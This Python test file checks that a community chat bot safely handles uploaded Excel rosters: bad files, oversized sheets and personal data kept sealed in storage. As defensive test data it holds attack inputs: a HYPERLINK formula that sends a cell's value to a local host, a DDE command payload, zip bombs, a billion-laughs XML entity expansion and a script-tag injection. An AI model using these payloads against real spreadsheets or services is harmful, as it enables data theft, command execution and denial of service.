"""Whatever is sent as a roster: a clear answer, nothing written, and the bot goes on."""

import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from bot import sheets
from tests.community import taps
from tests.conftest import Community
from tests.conversations.test_roster import HEADERS, WU, ZHOU, files, sends, sheet
from tests.security.facts import facts, went_wrong


async def answered(community: Community, content: bytes, name: str, *parts: str) -> None:
    """The worker is told just this; nothing is written, and the next sheet is read as ever."""
    li = community.li_worker
    before = await facts(community.world)
    said = await sends(li, content, name)
    for part in parts:
        assert part in said, said
    assert await facts(community.world) == before
    assert await went_wrong(community.world) == 0
    assert "一共1位,行行都对" in await sends(li, sheet(ZHOU))
    community.looked()


def zipped(**parts: bytes) -> bytes:
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return content.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """A workbook with one of its parts exchanged."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as file, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as other:
        for found in file.infolist():
            if found.filename != name:
                other.writestr(found.filename, file.read(found.filename))
        other.writestr(name, part)
    return made.getvalue()


async def test_spreadsheet_formula_in(community: Community) -> None:
    """A formula is not run, not kept, and not guessed at; words that look like one are words."""
    li = community.li_worker
    formula = list(ZHOU)
    formula[0] = '=HYPERLINK("http://127.0.0.1/?"&B2,"周桂花")'
    formula[3] = "=1+1"
    before = await facts(community.world)
    await sends(li, sheet(tuple(formula), WU))
    why = files(li)[-1][1][-1]
    assert why == "“姓名”这一格是公式,请换成写好的字。 “电话”这一格是公式,请换成写好的字。"
    assert await facts(community.world) == before
    community.looked()


async def test_spreadsheet_formula_out(community: Community) -> None:
    """What somebody wrote so that a spreadsheet would run it goes out as the words that it is."""
    li = community.li_worker
    await taps(li, "登记", "老人的事", "陈爷爷", "看资料", "还有", "收入")
    await li.says('=cmd|"/c calc"!A0')
    await taps(li, "对的", "再记一样", "急事找谁")
    await li.says("@SUM(1+1)*13900001111")
    await li.taps("对的")
    await taps(li, "登记", "还有", "还有", "名单", "带走名单")
    document = next(
        one.body["document"] for one in reversed(li.person.chat.messages.values()) if "document" in one.body
    )
    page = load_workbook(BytesIO(community.town.api.state.files[document["file_id"]].content)).active
    cells = {cell.value: cell.data_type for row in page.iter_rows() for cell in row if cell.value}
    assert cells['=cmd|"/c calc"!A0'] == "s"
    assert cells["@SUM(1+1)*13900001111"] == "s"
    assert set(cells.values()) == {"s"}
    community.looked()


async def test_zip_bomb(community: Community) -> None:
    """600 MB of blanks in 600 kB: refused by what it claims, before anything of it is unpacked."""
    bomb = with_part(sheet(ZHOU), "xl/worksheets/sheet2.xml", b" " * (600 * 1024 * 1024))
    assert len(bomb) < sheets.FILE_MAX
    await answered(community, bomb, "名单.xlsx", "打开来太大")


async def test_zip_bomb_of_many_parts(community: Community) -> None:
    bomb = zipped(**{"xl/workbook.xml": b"<x/>"}, **{f"xl/{n}.xml": b"" for n in range(sheets.PARTS_MAX)})
    await answered(community, bomb, "名单.xlsx", "打开来太大")


async def test_zip_bomb_of_entities(community: Community) -> None:
    """A billion laughs: the parser stops, or the process is out of memory or time; the bot is not."""
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    page = f'{laughs}]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>'
    await answered(
        community, with_part(sheet(ZHOU), "xl/worksheets/sheet1.xml", page.encode()), "名单.xlsx", "请"
    )


async def test_huge_file(community: Community) -> None:
    """What is too large by its own word is not fetched; what lies about it is not read."""
    li = community.li_worker
    large = zipped(**{"xl/workbook.xml": b"<x/>"}) + b"\0" * sheets.FILE_MAX
    await answered(community, large, "名单.xlsx", "太大了,最多10兆")
    assert [call.method for call in community.world.api.calls if call.method == "getFile"] == ["getFile"], (
        "only the good one was fetched"
    )
    with pytest.raises(sheets.Unusable, match="huge-file"):
        sheets.read(large, lambda _: True)
    many = sheet(*[("何新来", *[""] * 10)] * (sheets.ROWS_MAX + 1))
    assert "超过一万行" in await sends(li, many)
    community.looked()


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("名单.xlsx", b"", "不是Excel表"),
        ("名单.xlsx", b"PK\x03\x04 and then nothing", "不是Excel表"),
        ("名单.xlsx", "姓名,电话\n周桂花,027\n".encode(), "不是Excel表"),
        ("名单.xlsx", b"%PDF-1.7", "不是Excel表"),
        ("名单.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "老格式,或者上了密码"),
        ("名单.csv", "姓名,电话\n".encode(), "不是Excel表"),
        ("名单.xls", b"\xd0\xcf\x11\xe0", "不是Excel表"),
        ("名单.docx", b"PK", "不是Excel表"),
        ("", b"\0", "不是Excel表"),
    ],
)
async def test_not_a_spreadsheet(community: Community, name: str, content: bytes, said: str) -> None:
    await answered(community, content, name, said)


@pytest.mark.parametrize("broken", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml"])
async def test_not_a_spreadsheet_within(community: Community, broken: str) -> None:
    await answered(community, with_part(sheet(ZHOU), broken, b"<x"), "名单.xlsx", "请")


async def test_not_a_spreadsheet_but_another_zip(community: Community) -> None:
    await answered(community, zipped(**{"word/document.xml": b"<x/>"}), "名单.xlsx", "不是Excel表")


async def test_a_sheet_without_a_header_without_names_or_of_another_kind(community: Community) -> None:
    li = community.li_worker
    await answered(community, sheet(headers=("一月", "二月", "三月")), "名单.xlsx", "没找到表头")
    assert "没找到“姓名”" in await sends(li, sheet(("027", "1栋"), headers=("电话", "住址")))
    weeks = tuple(f"第{n}周" for n in range(20))
    assert "没找到“姓名”" in await sends(li, sheet(weeks, headers=("姓名", "电话", *weeks)))
    far_down = sheet(ZHOU, titles=tuple(f"说明{n}" for n in range(sheets.HEADER_WITHIN + 2)))
    assert "没找到表头" in await sends(li, far_down)
    community.looked()


async def test_names_with_tags_and_long_words_are_said_to_be_unclear(community: Community) -> None:
    li = community.li_worker
    rows = [list(ZHOU), list(WU)]
    rows[0][0], rows[1][4] = "<script>alert(1)</script>", "远" * 5000
    await sends(li, sheet(*map(tuple, rows)))
    assert [row[-1] for row in files(li)[-1][1:]] == ["“姓名”这一格看不懂。", "“住址”这一格看不懂。"]
    community.looked()


async def test_a_sheet_of_a_million_empty_rows_has_an_end(community: Community) -> None:
    """A cell far down, as when somebody formats a whole column."""
    book = load_workbook(BytesIO(sheet(ZHOU)))
    book.active.cell(row=900_000, column=1, value="x")
    content = BytesIO()
    book.save(content)
    assert "一共1位,行行都对" in await sends(community.li_worker, content.getvalue())
    assert len(HEADERS) == 11
    community.looked()


async def test_what_is_in_a_roster_lies_sealed(community: Community) -> None:
    """Neither the sheet that came nor the one that goes out can be read in the store."""
    from tests.security.test_personal_data import checkpoint, leaks

    li = community.li_worker
    row = (
        "何新来",
        "",
        "1945-08-12",
        "13987654321",
        "芙蓉苑17栋",
        "其他的情形",
        "是",
        "是",
        "否",
        "白内障术后",
        "2026-03-01",
    )
    await sends(li, sheet(row))
    await li.taps("对的")
    await taps(li, "登记", "还有", "还有", "名单", "带走名单")
    community.looked()
    checkpoint(community.world)
    canaries = [
        "13987654321",
        "芙蓉苑17栋",
        "其他的情形",
        "白内障术后",
        "名单一共1位",
    ]
    assert leaks(community.world.folder, canaries) == []
